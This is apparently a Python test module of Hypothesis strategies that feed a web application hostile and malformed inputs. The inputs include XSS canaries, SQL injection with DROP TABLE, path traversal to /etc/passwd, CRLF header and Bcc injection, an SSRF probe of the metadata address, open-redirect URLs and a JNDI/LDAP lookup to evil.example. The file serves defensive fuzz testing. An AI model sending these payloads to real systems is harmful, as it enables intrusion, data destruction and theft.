"""What is typed into fields and addresses by those who mean harm, or whose program is broken."""

from __future__ import annotations

from urllib.parse import quote, quote_from_bytes

from hypothesis import strategies as st

CANARY = "zq9x"
"""Names elements and attributes that no page of ours has."""

TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nSet-Cookie: x=1\r\n\r\n<zq9x>",
    f"<{CANARY}>",
    f"<script>{CANARY}</script><{CANARY} on{CANARY}=1>",
    f'" on{CANARY}=1 x="',
    f"' on{CANARY}=1 x='",
    f"</textarea></title></script><{CANARY}>",
    f"javascript:{CANARY}(1)",
    "{{7*191}}{% raw %}${7*191}#{7*191}",
    "'; DROP TABLE subscriber; --",
    '" OR 1=1 --',
    "%' OR '%",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\u202egnp.exe",
    "\u200f\u200e\u2066\ufeff\u0085\u2028",
    "A\u0301" * 200,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\U0010ffff",
    "-1",
    "0",
    "1e309",
    "NaN",
    "٣",
    "9" * 30,
    str(2**31),
    str(2**63),
    str(-(2**63) - 1),
    '=HYPERLINK("http://evil.example")',
    "https://evil.example/",
    "//evil.example/",
    "/desk/\\evil.example",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "a@b\r\nBcc: c@evil.example",
    "x" * 20_000,
    "true",
    "null",
    "[]",
    '[{"type":"DropStory","story":1}]',
    "[" * 3000,
    "%s%n%x %(name)s",
    "${jndi:ldap://evil.example}",
)

RAW_PARTS = (
    "%ff%fe",
    "%c0%ae%c0%ae%2f",
    "%ed%a0%80",
    "%",
    "%zz",
    "%00",
    "%0d%0aX:%20y",
    "..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f",
    "x" * 3000,
    "9" * 30,
    "-1",
    "0",
    str(2**31),
    str(2**63),
    "1.5",
    "%D9%A3",
    f"%3C{CANARY}%3E",
    f"%22%20on{CANARY}=1%20x=%22",
    "%7B%7B7*191%7D%7D",
    "'%20OR%201=1%20--",
    "%E2%80%AE",
    "1.aaaaaa." + "0" * 32,
    "a" * 64,
)
"""Of a path or a query, as they stand in the address."""

texts = st.one_of(
    st.sampled_from(TEXTS),
    st.text(st.characters(codec="utf-8"), max_size=60),
    st.lists(st.sampled_from(TEXTS[:40]), max_size=4).map(" ".join),
    st.integers().map(str),
)
"""One field's text."""

parts = st.one_of(
    st.sampled_from(RAW_PARTS),
    st.binary(min_size=1, max_size=40).map(quote_from_bytes),
    texts.map(lambda text: quote(text[:3000], safe="") or "%20"),
)
"""One part of an address, encoded in some way or other."""

bodies = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        (
            b"", b"{", b"[]", b"null", b"\xff\xfe", b"a=%ff&b=%00", b"csrf", b"csrf=&csrf=x",
            b"&&&=&=", b"%", b"--x\r\n", b"--x--", b"[" * 5000, b'{"email": {"a": [1]}}',
            b'{"email": 1e999}', b'{"email": "\\ud800"}', b"a&" * 2000,
            b'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n1\r\n--x--\r\n',
            b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../x"\r\n\r\n\0',
        )
    ),
)  # fmt: skip
"""Whole bodies."""

kinds = st.sampled_from(
    (
        "application/x-www-form-urlencoded", "application/json", "multipart/form-data",
        "multipart/form-data; boundary=x", "text/plain", "", "application/json; charset=utf-16",
        "application/x-www-form-urlencoded; charset=\xff",
        "multipart/form-data; boundary=" + "y" * 300,
    )
)  # fmt: skip
"""What a body says it is."""
